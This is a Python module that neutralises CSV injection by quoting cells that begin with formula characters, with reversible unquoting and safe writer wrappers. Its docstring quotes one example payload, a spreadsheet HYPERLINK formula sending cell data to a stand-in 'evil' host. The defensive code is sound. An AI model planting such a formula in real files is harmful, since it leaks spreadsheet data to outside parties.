"""CSV cells that spreadsheets show as text, never run as formulas (CSV injection).

Video ids, labels, class names and file names in the CSV files vidfeat writes come from
video lists and stores that someone else may have written. A cell such as
``=HYPERLINK("http://evil/?"&A1, "click")`` is a formula to Excel, LibreOffice and Google
Sheets. Following the OWASP guidance on CSV injection, :func:`cell` prefixes a text cell
with a single quote ``'`` when it begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return, so spreadsheets show it as text. Numbers are left alone, also as text: ``-0.5``,
``-1e-3`` and ``+3`` stay numbers; only a cell that is not a plain decimal number is
prefixed (``-inf`` and ``-1+1`` are).

The prefix is reversible: :func:`uncell` gives the original text back, so vidfeat reads its
own CSV files (``ensemble`` reads ``scores.csv``) exactly. A text that already begins with
quotes followed by one of those characters gets one more quote, so ``uncell(cell(s)) == s``
for every string. :func:`row` applies :func:`cell` to a row, :func:`writer` wraps a
``csv.writer`` and :func:`dict_writer` a ``csv.DictWriter``.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

__all__ = ["cell", "dict_writer", "row", "uncell", "writer"]

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def _is_formula(text: str) -> bool:
    """Whether ``text`` (after any leading quotes) begins like a formula and is no number."""
    body = text.lstrip("'")
    return body.startswith(_TRIGGERS) and not _NUMBER.fullmatch(body)


def cell(value: Any) -> Any:
    """``value`` as a CSV cell that is not a formula: text beginning with ``= + - @``, a tab or
    a carriage return gets a leading ``'``; numbers (also numeric text) are left alone."""
    if isinstance(value, str) and value and _is_formula(value):
        return "'" + value
    return value


def uncell(text: str) -> str:
    """The text :func:`cell` was given for the cell ``text`` (its quote removed)."""
    if text.startswith("'") and _is_formula(text[1:]):
        return text[1:]
    return text


def row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`cell`."""
    return [cell(v) for v in values]


class _SafeWriter:
    def __init__(self, w: Any) -> None:
        self._w = w

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._w.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for r in rows:
            self.writerow(r)


class _SafeDictWriter:
    def __init__(self, w: csv.DictWriter) -> None:
        self._w = w

    def writeheader(self) -> Any:
        return self._w.writer.writerow(row(self._w.fieldnames))

    def writerow(self, values: Mapping[str, Any]) -> Any:
        return self._w.writerow({k: cell(v) for k, v in values.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for r in rows:
            self.writerow(r)


def writer(fh: Any, **kwargs: Any) -> _SafeWriter:
    """A ``csv.writer`` whose rows go through :func:`cell`."""
    return _SafeWriter(csv.writer(fh, **kwargs))


def dict_writer(fh: Any, fieldnames: list[str], **kwargs: Any) -> _SafeDictWriter:
    """A ``csv.DictWriter`` whose header and rows go through :func:`cell`."""
    return _SafeDictWriter(csv.DictWriter(fh, fieldnames=fieldnames, **kwargs))
